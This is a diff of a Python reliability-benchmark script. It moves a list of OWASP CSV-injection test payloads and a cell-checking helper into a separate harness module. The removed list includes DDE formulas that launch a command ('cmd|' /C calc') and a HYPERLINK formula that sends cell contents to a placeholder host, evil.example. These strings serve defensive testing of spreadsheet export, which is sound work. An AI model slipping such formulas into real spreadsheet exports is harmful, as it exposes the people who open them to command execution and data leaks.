@@ -19,7 +19,6 @@ figures to the ``reliability-ops`` section of ``docs/RELIABILITY.md``.
 from __future__ import annotations
 
 import argparse
-import csv
 import json
 import tempfile
 import threading
@@ -34,28 +33,13 @@ from annotations.export import export, pairs_path
 from bench.common import ROOT, machine, replace_marked_section, write_json
 from bench.db_outages import run_outages
 from bench.hostile_uploads import run_hostile
+from harness.formula_payloads import OWASP_PAYLOADS, live_cells
 from qpr.data.corpus import read_table, write_table
-from qpr.data.spreadsheet import TRIGGERS
 
 RESULTS = ROOT / "bench" / "results" / "reliability.json"
 DETAIL = ROOT / "bench" / "results" / "reliability_ops_detail.json"
 DOC = ROOT / "docs" / "RELIABILITY.md"
 PARTS = ("csv", "backup", "outages", "hostile", "sustained")
-
-# OWASP "CSV Injection" examples and variants, and texts that already begin with a quote.
-OWASP_PAYLOADS = [
-    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")', "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")",
-    "\t=1+1", "\r=1+1", "\r\n=1+1", "=\t1", "-1", "+44 20 7946 0000", "@user what is this?", "'=1+1", "''=1+1", "'",
-    "'hello", "=", "==", "=-=+@", "how do i learn python? =1+1",
-]
-
-
-def live_cells(path: Path, sep: str) -> list[str]:
-    """The cells of the file at ``path`` that a spreadsheet would evaluate (Python's csv module
-    parses it as a spreadsheet does)."""
-    with open(path, newline="", encoding="utf-8") as handle:
-        return [cell for row in csv.reader(handle, delimiter=sep) for cell in row if cell.startswith(TRIGGERS)]
 
 
 def csv_payloads(tmp: Path) -> dict:
